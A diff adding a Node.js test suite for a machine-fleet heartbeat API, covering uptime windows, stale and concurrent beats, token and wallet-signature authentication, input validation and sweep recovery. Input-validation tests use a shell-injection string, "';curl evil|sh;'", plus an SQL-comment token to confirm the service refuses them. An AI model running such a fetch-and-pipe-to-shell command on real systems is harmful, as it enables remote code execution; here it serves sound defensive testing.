@@ -1,0 +1,430 @@
+// Machines and their beats: who may beat, what a beat does to the window, the
+// sweep of those that fell silent, and the uptime that comes of it.
+
+import assert from "node:assert/strict";
+import { createHash } from "node:crypto";
+import test, { after } from "node:test";
+import { setImmediate } from "node:timers/promises";
+import { startStackAuth } from "./fakes/stack-auth.js";
+import { fleet, newAddress, pointers, send } from "./fleet.js";
+import { pages, problem, rowCounts, startWorker } from "./harness.js";
+import { ADMIN_TOKEN, malleated, newWallet, people, production } from "./people.js";
+
+const stack = await startStackAuth();
+after(() => stack.close());
+const worker = await startWorker(production(stack));
+const { sql, url } = worker;
+const { signIn, mint, newKey, challenge, findNoSecret, secret } = people(worker, stack);
+const { call, ok, as, row } = fleet(worker);
+
+const MINUTE_MS = 60_000;
+const GAP_MS = 30 * MINUTE_MS;
+const iso = (ms) => new Date(ms).toISOString();
+const sha256 = (text) => createHash("sha256").update(text).digest("hex");
+
+/** A machine whose wallet's user is signed in, registered: `wallet` (in lower case), `token`, `session`, `beat(ms, more)`. */
+async function newMachine() {
+  const session = await signIn();
+  const { walletAddress, token } = await ok(201, "POST", "/workers", {}, session.token);
+  secret(token);
+  const body = (ms, more) => ({ walletAddress, timestamp: iso(ms), containers: [], ...more });
+  const beat = (ms, more) => ok(200, "POST", "/heartbeat", body(ms, more), token);
+  return { wallet: walletAddress, token, session: session.token, signer: session.wallet, beat, body };
+}
+
+const window = (wallet) => row("SELECT start_at, end_at FROM worker_windows WHERE wallet = ?", wallet);
+const records = (wallet) => sql("SELECT time_from, time_to FROM worker_uptime_records WHERE wallet = ? ORDER BY time_from", wallet);
+const sweep = () => worker.worker.scheduled({ cron: "* * * * *" });
+
+/** Everything that beats write. */
+const uptimeRows = async () => [await sql("SELECT * FROM worker_windows ORDER BY wallet"), await sql("SELECT * FROM worker_uptime_records ORDER BY wallet, time_from")];
+
+/** A beat that is refused, and changes nothing. */
+async function refused(status, code, body, token, headers) {
+  const before = await uptimeRows();
+  const told = await problem(await call("POST", "/heartbeat", body, token, headers), status, code);
+  assert.deepEqual(await uptimeRows(), before);
+  return told;
+}
+
+/** What a machine without a token sends: its wallet's signature, over this body or another. */
+const signed = (wallet, body, over = body) => {
+  const { walletAddress, timestamp } = JSON.parse(over);
+  return { "x-wallet-signature": wallet.sign(`hatch-heartbeat\n${walletAddress.toLowerCase()}\n${timestamp}\n${sha256(over)}`) };
+};
+
+test("A beat at most 30:00.000 after the end extends the window, one at 30:00.001 begins another", async () => {
+  const start = Date.now() - 10 * 60 * MINUTE_MS;
+  for (const [gap, extends_] of [[GAP_MS - 1, true], [GAP_MS, true], [GAP_MS + 1, false]]) {
+    const { wallet, beat } = await newMachine();
+    assert.deepEqual((await beat(start)).window, { startTime: iso(start), endTime: iso(start) });
+    await beat(start + MINUTE_MS);
+    const at = start + MINUTE_MS + gap;
+    const { success, window: told, stale, nextBeatSeconds } = await beat(at);
+    assert.deepEqual([success, stale, nextBeatSeconds], [true, undefined, 300]);
+    assert.deepEqual(told, { startTime: iso(extends_ ? start : at), endTime: iso(at) }, `${gap} ms`);
+    assert.deepEqual(await records(wallet), extends_ ? [] : [{ time_from: start, time_to: start + MINUTE_MS }]);
+  }
+});
+
+test("A beat that is not newer than the window's end is stale, and changes nothing", async () => {
+  const { wallet, beat } = await newMachine();
+  const at = Date.now() - 2 * 60 * MINUTE_MS;
+  await beat(at, { containers: [{ containerName: "kept", port: "1" }] });
+  await beat(at + 5 * MINUTE_MS, { containers: [{ containerName: "kept", port: "1" }] });
+  const before = await row("SELECT * FROM worker_windows WHERE wallet = ?", wallet);
+  for (const late of [at + 5 * MINUTE_MS, at + 5 * MINUTE_MS - 1, at, at - GAP_MS, at - 100 * GAP_MS, 0]) {
+    const told = await beat(late, { containers: [{ containerName: "lost" }] });
+    assert.deepEqual([told.success, told.stale, told.window], [true, true, { startTime: iso(at), endTime: iso(at + 5 * MINUTE_MS) }]);
+    assert.deepEqual(await row("SELECT * FROM worker_windows WHERE wallet = ?", wallet), before, iso(late));
+  }
+  assert.deepEqual(await records(wallet), []);
+});
+
+test("Of twenty beats at once each counts, whatever their order", async () => {
+  const { wallet, beat } = await newMachine();
+  const start = Date.now() - 20 * 60 * MINUTE_MS;
+  // Beats of one row, and then some that each begin a window.
+  const times = Array.from({ length: 20 }, (_, n) => start + (n < 10 ? n * MINUTE_MS : 9 * MINUTE_MS + (n - 9) * (GAP_MS + 1)));
+  await Promise.all(times.toSorted((a, b) => (a % 7) - (b % 7)).map((at) => beat(at)));
+  const { start_at, end_at } = await window(wallet);
+  assert.equal(end_at, times.at(-1));
+  // Beats that were overtaken are stale: windows may be fewer and begin later, but never overlap or go beyond the beats.
+  const all = [...(await records(wallet)), { time_from: start_at, time_to: end_at }];
+  for (const { time_from, time_to } of all) assert.ok(times.includes(time_from) && times.includes(time_to) && time_from <= time_to);
+  all.slice(1).forEach(({ time_from }, n) => assert.ok(time_from - all[n].time_to > GAP_MS));
+
+  const twin = await newMachine();
+  const at = Date.now();
+  const told = await Promise.all(Array.from({ length: 20 }, () => twin.beat(at)));
+  assert.equal(told.filter(({ stale }) => !stale).length, 1);
+});
+
+test("A clock may be five minutes ahead", async () => {
+  const { wallet, beat, body, token } = await newMachine();
+  await refused(422, "timestamp_ahead", body(Date.now() + 5 * MINUTE_MS + 10_000), token);
+  await refused(422, "timestamp_ahead", body(Date.now() + 365 * 24 * 60 * MINUTE_MS), token);
+  await beat(Date.now() + 5 * MINUTE_MS - 10_000);
+  assert.equal((await window(wallet)).start_at, (await window(wallet)).end_at);
+  // The next beats, by a clock that has been set right, are stale until then.
+  assert.equal((await beat(Date.now())).stale, true);
+});
+
+test("A wallet is the same in upper case, and what is no wallet is refused", async () => {
+  const { wallet, token, body } = await newMachine();
+  const upper = `0x${wallet.slice(2).toUpperCase()}`;
+  await ok(200, "POST", "/heartbeat", body(Date.now(), { walletAddress: upper }), token);
+  assert.ok(await window(wallet));
+  for (const bad of ["';curl evil|sh;'", "", "0x", wallet.slice(2), `${wallet}0`, `0x${"g".repeat(40)}`, ` ${wallet}`, `${wallet}\n`, 1, null, [wallet]]) {
+    assert.deepEqual(pointers(await refused(400, undefined, body(Date.now(), { walletAddress: bad }), token)), ["/walletAddress"]);
+  }
+  for (const path of ["", "/status", "/uptime", "/containers"]) {
+    await problem(await call("GET", `/workers/${encodeURIComponent("';curl evil|sh;'")}${path}`, undefined, ADMIN_TOKEN), 400);
+    assert.equal((await call("GET", `/workers/${upper}${path}`, undefined, ADMIN_TOKEN)).status, 200);
+  }
+});
+
+test("A body that is malformed is refused, every field by its name", async () => {
+  const { token, body } = await newMachine();
+  const now = Date.now();
+  const broken = await refused(400, undefined, { timestamp: "now", containers: {}, system: [], hostname: "" }, token);
+  assert.deepEqual(pointers(broken), ["/walletAddress", "/timestamp", "/containers", "/system", "/hostname"]);
+  for (const timestamp of [now, "", "2026-13-01T00:00:00Z", "2026-01-01", "1969-12-31T23:59:59Z", null]) {
+    assert.deepEqual(pointers(await refused(400, undefined, body(now, { timestamp }), token)), ["/timestamp"]);
+  }
+  for (const containers of [undefined, null, "[]", [1], [{}], [{ containerName: "" }], [{ containerName: "x".repeat(256) }], [{ name: "x", port: [] }],
+    [{ name: "x", port: 65_536 }], [{ name: "x", cpuPercent: "1" }], Array(501).fill({ name: "x" })]) {
+    assert.deepEqual(pointers(await refused(400, undefined, body(now, { containers }), token)), ["/containers"]);
+  }
+  assert.deepEqual(pointers(await refused(400, undefined, body(now, { system: { a: "x".repeat(5000) } }), token)), ["/system"]);
+  for (const text of ["", "{", "[]", "null", '"x"', "{}}", '{"a":"\\u0000"}', "\u0001", "[".repeat(100_000)]) await refused(400, undefined, text, token);
+  await refused(415, undefined, JSON.stringify(body(now)), token, { "content-type": "text/plain" });
+});
+
+test("A megabyte of containers is taken or refused whole", async () => {
+  const { wallet, token, body, beat, session } = await newMachine();
+  const many = (n, length) => Array.from({ length: n }, (_, i) => ({ containerName: `${i}-`.padEnd(length, "x"), port: "8080" }));
+  await refused(400, "validation_failed", body(Date.now(), { containers: many(3_900, 220) }), token);
+  await refused(413, undefined, body(Date.now(), { containers: many(4_500, 220) }), token);
+  // What a container has besides is not kept.
+  await beat(Date.now(), { containers: many(500, 255).map((each) => ({ ...each, labels: "x".repeat(1_600) })) });
+  assert.deepEqual(await ok(200, "GET", `/workers/${wallet}/containers`, undefined, session), many(500, 255));
+});
+
+test("In production a beat needs the machine's own token", async () => {
+  const mine = await newMachine();
+  const other = await newMachine();
+  const beat = mine.body(Date.now());
+  await refused(401, "unauthorized", beat);
+  await refused(403, "not_your_machine", beat, other.token);
+  const forged = `${mine.token.slice(0, 10)}${mine.token[10] === "A" ? "B" : "A"}${mine.token.slice(11)}`;
+  for (const token of [forged, mine.token.slice(0, -1), "wk_", "wk_x", "x", "';--", mine.token.toUpperCase()]) await refused(401, "unauthorized", beat, token);
+  // Of users and of the operator no beat is taken at their word either.
+  for (const token of [mine.session, ADMIN_TOKEN, (await newKey(mine.session, { scopes: ["fleet:heartbeat"] })).key]) await refused(401, "unauthorized", beat, token);
+  // Nor does a machine get in anywhere else.
+  for (const path of ["/workers", `/workers/${mine.wallet}`, "/deployments", "/payments", "/auth/me", "/api/projects"]) {
+    await problem(await call("GET", path, undefined, mine.token), 403);
+  }
+  await ok(200, "POST", "/heartbeat", beat, mine.token);
+});
+
+test("A token that was replaced or revoked is good no more, at once", async () => {
+  const { wallet, token, session, body } = await newMachine();
+  const { token: next } = await ok(201, "POST", "/workers", {}, session);
+  secret(next);
+  await refused(401, "unauthorized", body(Date.now()), token);
+  await ok(200, "POST", "/heartbeat", body(Date.now()), next);
+  const stranger = await signIn();
+  await problem(await call("DELETE", `/workers/${wallet}`, undefined, stranger.token), 404);
+  await ok(200, "POST", "/heartbeat", body(Date.now()), next);
+  assert.equal((await call("DELETE", `/workers/${wallet}`, undefined, session)).status, 204);
+  await refused(401, "unauthorized", body(Date.now()), next);
+  // What is recorded stays.
+  assert.equal((await ok(200, "GET", `/workers/${wallet}/status`, undefined, session)).status, "HEALTHY");
+});
+
+test("A wallet's signature over the beat is as good as its token, for this beat of this machine alone", async () => {
+  const wallet = newWallet();
+  const [address, now] = [wallet.address.toLowerCase(), Date.now()];
+  const text = (ms, more) => JSON.stringify({ walletAddress: wallet.address, timestamp: iso(ms), containers: [], ...more });
+  const first = text(now - 2 * MINUTE_MS);
+  await ok(200, "POST", "/heartbeat", first, undefined, signed(wallet, first));
+  assert.equal((await window(address)).end_at, now - 2 * MINUTE_MS);
+
+  const next = text(now);
+  const good = signed(wallet, next)["x-wallet-signature"];
+  for (const signature of [good.slice(0, -2), `${good}00`, "", "0x", "x", malleated(good), `0x${"0".repeat(130)}`, newWallet().sign(next)]) {
+    await refused(401, "unauthorized", next, undefined, { "x-wallet-signature": signature });
+  }
+  await refused(401, "unauthorized", next, undefined, signed(newWallet(), next));
+  await refused(401, "unauthorized", next, undefined, signed(wallet, next, first));
+  await refused(401, "unauthorized", next, undefined, signed(wallet, next, text(now, { hostname: "other" })));
+  await refused(401, "unauthorized", `${next} `, undefined, signed(wallet, next));
+  await ok(200, "POST", "/heartbeat", next, undefined, signed(wallet, next));
+  // Replayed, it is stale: it says nothing new, and moves nothing back.
+  const before = await uptimeRows();
+  assert.equal((await ok(200, "POST", "/heartbeat", next, undefined, signed(wallet, next))).stale, true);
+  assert.equal((await ok(200, "POST", "/heartbeat", first, undefined, signed(wallet, first))).stale, true);
+  assert.deepEqual(await uptimeRows(), before);
+
+  // A machine that never registered is its wallet's user's all the same.
+  const { token } = await signIn(wallet);
+  assert.equal((await ok(200, "GET", `/workers/${address}`, undefined, token)).exists, true);
+  assert.deepEqual((await ok(200, "GET", "/workers", undefined, token)).map(({ walletAddress }) => walletAddress), [address]);
+});
+
+test("A machine is registered by its wallet's signature or by its user, and its token is shown once", async () => {
+  const wallet = newWallet();
+  const { message } = await challenge(wallet);
+  const proof = { message, signature: secret(wallet.sign(message)) };
+  const registered = await call("POST", "/workers", proof);
+  assert.equal(registered.status, 201);
+  assert.equal(registered.headers.get("location"), `/workers/${wallet.address.toLowerCase()}`);
+  assert.equal(registered.headers.get("cache-control"), "no-store");
+  const { walletAddress, token } = await registered.json();
+  assert.match(secret(token), /^wk_[0-9A-Za-z]{49}$/);
+  assert.equal(walletAddress, wallet.address.toLowerCase());
+  await problem(await call("POST", "/workers", proof), 401);
+  await ok(200, "POST", "/heartbeat", { walletAddress, timestamp: iso(Date.now()), containers: [] }, token);
+
+  const session = await signIn(wallet);
+  const [shown] = await ok(200, "GET", "/workers", undefined, session.token);
+  assert.equal(shown.tokenHint, `wk_…${token.slice(-4)}`);
+  const before = await rowCounts(worker);
+  const { key } = await newKey(session.token, { scopes: ["deploy", "account"] });
+  await problem(await call("POST", "/workers", {}, key), 403, "insufficient_scope");
+  await problem(await call("POST", "/workers", {}), 401);
+  await problem(await call("POST", "/workers", {}, mint({})), 400);
+  await problem(await call("POST", "/workers", { walletAddress: newAddress() }, token), 401);
+  const after = await rowCounts(worker);
+  assert.equal(after.workers, before.workers);
+  await findNoSecret();
+});
+
+test("The plan's keys follow in KV, two operations a beat and one a ping", async () => {
+  const { wallet, token, beat } = await newMachine();
+  const kept = async (key, wanted) => {
+    for (;;) {
+      const { value, metadata } = await (await worker.worker.getEnv()).WORKER_HEARTBEATS.getWithMetadata(key, "json");
+      if (value && wanted(value)) return { value, metadata };
+      await setImmediate();
+    }
+  };
+  const start = Date.now() - 10 * MINUTE_MS;
+  await beat(start, { containers: [{ containerName: "web", port: 80 }, { name: "db", cpuPercent: 1.5, memUsageMb: 20 }] });
+  const first = await kept(`${wallet}:time`, () => true);
+  assert.deepEqual(first, { value: { startTime: iso(start), endTime: iso(start) }, metadata: { s: start, e: start } });
+  const containers = await kept(`${wallet}:containers`, () => true);
+  assert.deepEqual(containers.value, [{ containerName: "web", port: "80" }, { containerName: "db", cpuPercent: 1.5, memUsageMb: 20 }]);
+
+  const end = start + 5 * MINUTE_MS;
+  await ok(200, "POST", "/heartbeat/ping", { walletAddress: wallet, timestamp: iso(end) }, token);
+  const second = await kept(`${wallet}:time`, ({ endTime }) => endTime === iso(end));
+  assert.deepEqual(second, { value: { startTime: iso(start), endTime: iso(end) }, metadata: { s: start, e: end } });
+  assert.deepEqual(await ok(200, "GET", `/workers/${wallet}/containers`, undefined, ADMIN_TOKEN), containers.value);
+  const { keys } = await (await worker.worker.getEnv()).WORKER_HEARTBEATS.list({ prefix: wallet });
+  assert.deepEqual(keys.map(({ name }) => name), [`${wallet}:containers`, `${wallet}:time`]);
+});
+
+test("A machine is told of as it last was, to its user and to nobody else", async () => {
+  const { wallet, session, beat } = await newMachine();
+  const fresh = await ok(200, "GET", `/workers/${wallet}`, undefined, session);
+  assert.deepEqual([fresh.exists, fresh.isActive, fresh.status, fresh.lastSeen, fresh.window], [true, false, "UNKNOWN", null, null]);
+  assert.deepEqual(await ok(200, "GET", `/workers/${wallet}/containers`, undefined, session), []);
+  const at = Date.now() - MINUTE_MS;
+  await beat(at, { hostname: "rack-1", system: { cpus: 4, load1: 0.5 } });
+  const seen = await ok(200, "GET", `/workers/${wallet}`, undefined, session);
+  assert.deepEqual([seen.isActive, seen.status, seen.hostname, seen.system, seen.window], [true, "HEALTHY", "rack-1", { cpus: 4, load1: 0.5 }, { startTime: iso(at), endTime: iso(at) }]);
+  // Of a beat that says nothing of them they stay.
+  await beat(Date.now());
+  assert.equal((await ok(200, "GET", `/workers/${wallet}`, undefined, session)).hostname, "rack-1");
+
+  for (const [minutes, status, isActive] of [[14, "HEALTHY", true], [16, "WARNING", true], [29, "WARNING", true], [31, "DEAD", false]]) {
+    await sql("UPDATE worker_windows SET seen_at = ? WHERE wallet = ?", Date.now() - minutes * MINUTE_MS, wallet);
+    assert.equal((await ok(200, "GET", `/workers/${wallet}/status`, undefined, session)).status, status);
+    const [listed] = await ok(200, "GET", "/workers", undefined, session);
+    assert.deepEqual([listed.walletAddress, listed.status], [wallet, status]);
+    assert.equal((await ok(200, "GET", `/workers/${wallet}`, undefined, session)).isActive, isActive);
+  }
+
+  const stranger = await signIn();
+  assert.deepEqual(await ok(200, "GET", `/workers/${wallet}`, undefined, stranger.token), { exists: false });
+  assert.equal((await ok(200, "GET", `/workers/${wallet}/status`, undefined, stranger.token)).status, "UNKNOWN");
+  for (const path of ["/uptime", "/containers"]) await problem(await call("GET", `/workers/${wallet}${path}`, undefined, stranger.token), 404);
+  assert.deepEqual(await ok(200, "GET", "/workers", undefined, stranger.token), []);
+  for (const path of ["", "/status", "/uptime", "/containers"]) await problem(await call("GET", `/workers/${wallet}${path}`), 401);
+});
+
+test("The operator has the list of all machines, page by page", async () => {
+  const listed = [];
+  for await (const page of pages(as(ADMIN_TOKEN), "/workers?limit=4")) {
+    assert.ok(page.length <= 4);
+    listed.push(...page.map(({ walletAddress }) => walletAddress));
+  }
+  assert.deepEqual(listed, (await sql("SELECT wallet FROM workers ORDER BY wallet")).map(({ wallet }) => wallet));
+});
+
+test("Beats and machines answer under /api/v1 too", async () => {
+  const { wallet, token, session, body } = await newMachine();
+  const v1 = async (method, path, sent, by) => {
+    const response = await send(url, method, `/api/v1${path}`, sent, { authorization: `Bearer ${by}` });
+    assert.ok(response.ok, `${path} ${response.status}`);
+    return response.json();
+  };
+  assert.equal((await v1("POST", "/heartbeat", body(Date.now() - 1000), token)).success, true);
+  assert.equal((await v1("POST", "/heartbeat/ping", { walletAddress: wallet, timestamp: iso(Date.now()) }, token)).success, true);
+  assert.equal((await v1("GET", `/workers/${wallet}`, undefined, session)).exists, true);
+  assert.equal((await v1("GET", `/workers/${wallet}/uptime`, undefined, session)).length, 1);
+  assert.deepEqual(await v1("GET", `/workers/${wallet}/containers`, undefined, session), []);
+});
+
+test("Uptime has the records and the open window, newest first, by period and by page, each moment once", async () => {
+  const { wallet, session, beat } = await newMachine();
+  const start = Date.now() - 20 * 60 * MINUTE_MS;
+  // Four windows of 10 minutes each, an hour apart.
+  for (let n = 0; n < 4; n++) for (const minute of [0, 5, 10]) await beat(start + (n * 60 + minute) * MINUTE_MS);
+  const uptime = async (query = "") => {
+    const response = await call("GET", `/workers/${wallet}/uptime${query}`, undefined, session);
+    const list = await response.json();
+    assert.equal(response.status, 200, JSON.stringify(list));
+    return { list, seconds: Number(response.headers.get("x-uptime-seconds")), link: response.headers.get("link") };
+  };
+  const interval = (from, to, open = false) => ({ timeFrom: iso(start + from * MINUTE_MS), timeTo: iso(start + to * MINUTE_MS), durationSeconds: (to - from) * 60, open });
+  const all = [interval(180, 190, true), interval(120, 130), interval(60, 70), interval(0, 10)];
+  assert.deepEqual(await uptime(), { list: all, seconds: 2400, link: null });
+  // Recorded by the sweep, the open window still counts once.
+  await sweep();
+  assert.equal((await records(wallet)).length, 4);
+  assert.deepEqual(await uptime(), { list: all, seconds: 2400, link: null });
+
+  const listed = [];
+  for await (const page of pages(as(session), `/workers/${wallet}/uptime?limit=3`)) listed.push(...page);
+  assert.deepEqual(listed, all);
+  const period = (from, to) => uptime(`?from=${iso(start + from * MINUTE_MS)}&to=${iso(start + to * MINUTE_MS)}`);
+  assert.deepEqual(await period(65, 185), { list: [interval(180, 185, true), interval(120, 130), interval(65, 70)], seconds: 1200, link: null });
+  assert.deepEqual(await period(20, 50), { list: [], seconds: 0, link: null });
+  assert.deepEqual(await period(2, 3), { list: [interval(2, 3)], seconds: 60, link: null });
+  const clipped = [];
+  for await (const page of pages(as(session), `/workers/${wallet}/uptime?limit=1&from=${iso(start + 65 * MINUTE_MS)}`)) clipped.push(...page);
+  assert.deepEqual(clipped, [interval(180, 190, true), interval(120, 130), interval(65, 70)]);
+  for (const query of ["from=yesterday", "to=1", "from=1969-01-01T00:00:00Z", "from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z", "limit=0"]) {
+    await problem(await call("GET", `/workers/${wallet}/uptime?${query}`, undefined, session), 400);
+  }
+});
+
+test("A late beat after the sweep makes the record longer, never double", async () => {
+  const { wallet, session, beat } = await newMachine();
+  const start = Date.now() - 3 * 60 * MINUTE_MS;
+  await beat(start);
+  await beat(start + 10 * MINUTE_MS);
+  await sweep();
+  assert.deepEqual(await records(wallet), [{ time_from: start, time_to: start + 10 * MINUTE_MS }]);
+  assert.equal((await beat(start + 40 * MINUTE_MS)).window.startTime, iso(start));
+  const total = async () => (await call("GET", `/workers/${wallet}/uptime`, undefined, session)).headers.get("x-uptime-seconds");
+  assert.equal(await total(), "2400");
+  await sweep();
+  assert.deepEqual(await records(wallet), [{ time_from: start, time_to: start + 40 * MINUTE_MS }]);
+  // Closed by the next window, without a sweep between.
+  await beat(start + 41 * MINUTE_MS);
+  await beat(start + 90 * MINUTE_MS);
+  assert.deepEqual(await records(wallet), [{ time_from: start, time_to: start + 41 * MINUTE_MS }]);
+  assert.equal(await total(), "2460");
+});
+
+/** Adds so many machines whose names begin alike, the first `silent` of them silent for an hour. */
+async function addMachines(prefix, count, silent) {
+  const now = Date.now();
+  await sql(
+    `INSERT INTO worker_windows (wallet, start_at, end_at, seen_at, containers)
+     WITH RECURSIVE n(n) AS (SELECT 0 UNION ALL SELECT n + 1 FROM n WHERE n < CAST(? AS INTEGER) - 1)
+     SELECT '0x' || ? || printf('%037d', n * 7919 % 10007), CAST(? AS INTEGER), CAST(? AS INTEGER) - iif(n < CAST(? AS INTEGER), 3600000, 0), CAST(? AS INTEGER), '[]' FROM n`,
+    count, prefix, now - 2 * 60 * MINUTE_MS, now, silent, now,
+  );
+}
+const wrong = (prefix) => sql(
+  `SELECT w.wallet FROM worker_windows w LEFT JOIN worker_uptime_records r ON r.wallet = w.wallet
+   WHERE w.wallet GLOB '0x' || ? || '0000000000*' GROUP BY w.wallet
+   HAVING count(r.wallet) <> (w.end_at < w.seen_at) OR (count(r.wallet) = 1 AND (max(r.time_from) <> w.start_at OR max(r.time_to) <> w.end_at))`, prefix);
+const recorded = async (prefix) => (await row("SELECT count(*) AS n FROM worker_uptime_records WHERE wallet GLOB '0x' || ? || '0000000000*'", prefix)).n;
+
+test("Of 5,000 machines the sweep records the 1,000 that fell silent, each once, twice and twice at once", async () => {
+  await addMachines("aaa", 5_000, 1_000);
+  await sweep();
+  assert.equal(await recorded("aaa"), 1_000);
+  assert.deepEqual(await wrong("aaa"), []);
+  const before = await uptimeRows();
+  await sweep();
+  assert.deepEqual(await uptimeRows(), before, "a second sweep finds nothing to do");
+
+  await addMachines("bbb", 5_000, 1_000);
+  await Promise.all([sweep(), sweep(), sweep()]);
+  await sweep();
+  assert.equal(await recorded("bbb"), 1_000);
+  assert.deepEqual(await wrong("bbb"), []);
+  assert.equal((await row("SELECT after_wallet FROM fleet_sweep")).after_wallet, "");
+});
+
+test("A sweep that broke off goes on where it stopped, and leaves nobody out", async () => {
+  await addMachines("ccc", 3_000, 1_000);
+  // The database refuses the piece after this one, as if the process had died there.
+  const [{ wallet: middle }] = await sql("SELECT wallet FROM worker_windows WHERE wallet GLOB '0xccc0000000000*' ORDER BY wallet LIMIT 1 OFFSET 1500");
+  await sql(`CREATE TRIGGER fault BEFORE UPDATE ON worker_windows WHEN NEW.wallet > '${middle}' BEGIN SELECT RAISE(ABORT, 'injected fault'); END`);
+  await sweep();
+  await sql("DROP TRIGGER fault");
+  const { after_wallet } = await row("SELECT after_wallet FROM fleet_sweep");
+  const some = await recorded("ccc");
+  assert.ok(after_wallet !== "" && after_wallet <= middle && some < 1_000, `${some} after ${after_wallet}`);
+  await sweep();
+  assert.equal(await recorded("ccc"), 1_000);
+  assert.deepEqual(await wrong("ccc"), []);
+});
+
+test("Beats in the middle of a sweep are not lost", async () => {
+  const machines = await Promise.all(Array.from({ length: 8 }, newMachine));
+  const start = Date.now() - 3 * 60 * MINUTE_MS;
+  await Promise.all(machines.map(({ beat }) => beat(start)));
+  const [, ...told] = await Promise.all([sweep(), sweep(), ...machines.map(({ beat }) => beat(start + 20 * MINUTE_MS))]);
+  assert.ok(told.length > 0);
+  await sweep();
+  for (const { wallet } of machines) assert.deepEqual(await records(wallet), [{ time_from: start, time_to: start + 20 * MINUTE_MS }]);
+});
